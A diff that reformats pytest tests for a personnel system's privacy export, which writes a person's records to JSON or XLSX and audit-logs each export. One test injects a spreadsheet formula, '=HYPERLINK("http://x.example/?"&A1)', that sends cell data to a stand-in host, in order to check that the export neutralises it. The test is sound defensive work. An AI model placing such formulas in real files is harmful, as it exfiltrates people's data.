@@ -24,20 +24,26 @@ def exports_logged(engine: Engine) -> list[tuple[str, str | None, str | None, di
     with engine.connect() as connection:
         rows = connection.execute(
             select(audit_log).where(audit_log.c.action == "privacy.export").order_by(audit_log.c.id)
-        )  # fmt: skip
+        )
         return [(r.actor, r.target, r.unit_code, json.loads(r.detail)) for r in rows]
 
 
 def test_everything_about_the_person_and_nothing_else(office: Office) -> None:
     with office.engine.connect() as connection:
         data = subject_data(connection, L1[0])
-    assert data["person"] == {"staff_code": L1[0], "full_name": L1[1], "sex": "F",
-                              "birth_date": "1979-10-01", "ethnicity": "Tày",
-                              "insurance_number": None, "citizen_id": None}  # fmt: skip
+    assert data["person"] == {
+        "staff_code": L1[0],
+        "full_name": L1[1],
+        "sex": "F",
+        "birth_date": "1979-10-01",
+        "ethnicity": "Tày",
+        "insurance_number": None,
+        "citizen_id": None,
+    }
     # the 2019 list's period, ended by the 2020 list; Phòng A was renamed on 01/01/2021 (after)
-    assert [(p["unit"], p["valid_from"], p["valid_to"], p["unit_name"]) for p in data["employment"]] == [
-        ("A", "2019-10-01", "2020-10-01", "Phòng A")
-    ]  # fmt: skip
+    assert [
+        (p["unit"], p["valid_from"], p["valid_to"], p["unit_name"]) for p in data["employment"]
+    ] == [("A", "2019-10-01", "2020-10-01", "Phòng A")]
     assert [(p["title"], p["level"], p["valid_to"]) for p in data["position"]] == [
         ("Phó Trưởng phòng", "deputy", "2020-10-01")
     ]
@@ -70,11 +76,23 @@ def test_a_period_spanning_a_renaming_has_both_names(office: Office) -> None:
     assert s2["employment"][0]["valid_to"] is None  # still employed
 
 
-def test_json_export_through_the_cli_is_logged(office: Office, capsys: pytest.CaptureFixture[str],
-                                              db_url: str, tmp_path: Path) -> None:  # fmt: skip
+def test_json_export_through_the_cli_is_logged(
+    office: Office, capsys: pytest.CaptureFixture[str], db_url: str, tmp_path: Path
+) -> None:
     out = tmp_path / "roi01.json"
-    result = run_cli(capsys, "privacy", "export", "--person", L1[0], "--out", str(out),
-                     "--actor", "lan", "--db", db_url)  # fmt: skip
+    result = run_cli(
+        capsys,
+        "privacy",
+        "export",
+        "--person",
+        L1[0],
+        "--out",
+        str(out),
+        "--actor",
+        "lan",
+        "--db",
+        db_url,
+    )
     assert result.code == 0, result.err
     body = json.loads(out.read_text(encoding="utf-8"))
     assert body["person"]["full_name"] == L1[1] and body["format"] == "binhdang.subject_access/1"
@@ -86,15 +104,28 @@ def test_json_export_through_the_cli_is_logged(office: Office, capsys: pytest.Ca
 
 def test_xlsx_export_is_formula_safe(office: Office, tmp_path: Path) -> None:
     with office.engine.begin() as connection:
-        connection.execute(update(person).where(person.c.staff_code == L2[0])
-                           .values(full_name='=HYPERLINK("http://x.example/?"&A1)'))  # fmt: skip
+        connection.execute(
+            update(person)
+            .where(person.c.staff_code == L2[0])
+            .values(full_name='=HYPERLINK("http://x.example/?"&A1)')
+        )
     out = tmp_path / "roi02.xlsx"
-    rows = export_person(office.engine, L2[0], out, fmt="xlsx", actor_name="lan", now=NOW,
-                         lang="en")  # fmt: skip
+    rows = export_person(
+        office.engine, L2[0], out, fmt="xlsx", actor_name="lan", now=NOW, lang="en"
+    )
     workbook = load_workbook(out)
-    assert workbook.sheetnames == ["Person", "Employment", "Positions", "Awards",
-                                   "Committee member", "Movements", "Succession", "Training",
-                                   "Maternity leave", "Audit log"]  # fmt: skip
+    assert workbook.sheetnames == [
+        "Person",
+        "Employment",
+        "Positions",
+        "Awards",
+        "Committee member",
+        "Movements",
+        "Succession",
+        "Training",
+        "Maternity leave",
+        "Audit log",
+    ]
     cells = {row[0].value: row[1] for row in workbook["Person"].iter_rows(min_row=2)}
     assert cells["full_name"].data_type == "s" and cells["full_name"].quotePrefix
     assert cells["full_name"].value.startswith("=HYPERLINK")
@@ -103,37 +134,72 @@ def test_xlsx_export_is_formula_safe(office: Office, tmp_path: Path) -> None:
     assert exports_logged(office.engine)[0][3] == {"format": "xlsx", "rows": rows}
 
 
-def test_unknown_person_writes_and_logs_nothing(office: Office, capsys: pytest.CaptureFixture[str],
-                                                db_url: str, tmp_path: Path) -> None:  # fmt: skip
+def test_unknown_person_writes_and_logs_nothing(
+    office: Office, capsys: pytest.CaptureFixture[str], db_url: str, tmp_path: Path
+) -> None:
     out = tmp_path / "x.json"
-    result = run_cli(capsys, "privacy", "export", "--person", "NOBODY", "--out", str(out),
-                     "--db", db_url, "--lang", "en")  # fmt: skip
+    result = run_cli(
+        capsys,
+        "privacy",
+        "export",
+        "--person",
+        "NOBODY",
+        "--out",
+        str(out),
+        "--db",
+        db_url,
+        "--lang",
+        "en",
+    )
     assert result.code == 1 and "NOBODY" in result.err and "Traceback" not in result.err
     assert not out.exists() and exports_logged(office.engine) == []
 
 
 def test_unwritable_file_logs_nothing(office: Office, tmp_path: Path) -> None:
     with pytest.raises(BinhdangError) as excinfo:
-        export_person(office.engine, L1[0], tmp_path / "no-such-folder" / "x.json", fmt="json",
-                      actor_name="lan", now=NOW)  # fmt: skip
+        export_person(
+            office.engine,
+            L1[0],
+            tmp_path / "no-such-folder" / "x.json",
+            fmt="json",
+            actor_name="lan",
+            now=NOW,
+        )
     assert excinfo.value.message.key == "file.write_failed"
     assert exports_logged(office.engine) == []
 
 
-def test_bad_format_is_refused(office: Office, capsys: pytest.CaptureFixture[str], db_url: str,
-                               tmp_path: Path) -> None:  # fmt: skip
-    result = run_cli(capsys, "privacy", "export", "--person", L1[0], "--format", "pdf",
-                     "--out", str(tmp_path / "x.pdf"), "--db", db_url)  # fmt: skip
+def test_bad_format_is_refused(
+    office: Office, capsys: pytest.CaptureFixture[str], db_url: str, tmp_path: Path
+) -> None:
+    result = run_cli(
+        capsys,
+        "privacy",
+        "export",
+        "--person",
+        L1[0],
+        "--format",
+        "pdf",
+        "--out",
+        str(tmp_path / "x.pdf"),
+        "--db",
+        db_url,
+    )
     assert result.code == 1 and "json, xlsx" in result.err
     assert exports_logged(office.engine) == []
 
 
-def test_the_actor_defaults_to_the_os_user(office: Office, capsys: pytest.CaptureFixture[str],
-                                           db_url: str, tmp_path: Path,
-                                           monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
+def test_the_actor_defaults_to_the_os_user(
+    office: Office,
+    capsys: pytest.CaptureFixture[str],
+    db_url: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     monkeypatch.setenv("LOGNAME", "nhan_su")  # getpass.getuser() reads it first
     out = tmp_path / "s4.xlsx"
-    result = run_cli(capsys, "privacy", "export", "--person", "S4", "--out", str(out),
-                     "--db", db_url)  # fmt: skip
+    result = run_cli(
+        capsys, "privacy", "export", "--person", "S4", "--out", str(out), "--db", db_url
+    )
     assert result.code == 0 and out.exists()
     assert exports_logged(office.engine)[0][:3] == ("nhan_su", "S4", "B")
